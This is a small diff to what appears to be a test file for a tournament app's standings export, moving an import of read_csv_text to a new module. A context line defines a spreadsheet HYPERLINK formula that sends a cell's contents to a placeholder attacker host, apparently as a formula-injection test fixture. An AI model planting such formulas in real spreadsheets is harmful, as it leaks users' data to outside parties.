@@ -16,7 +16,8 @@ from openpyxl import load_workbook
 from tournament.cli import main
 from tournament.export.gather import gather_standings
 from tournament.export.tables import standings_csv, write_standings_xlsx, write_xlsx
-from tournament.players_io import PlayerDraft, read_csv_text
+from tournament.players_files import read_csv_text
+from tournament.players_io import PlayerDraft
 from tournament.service import Tournament
 
 LINK = '=HYPERLINK("http://evil.example/?leak="&A1)'
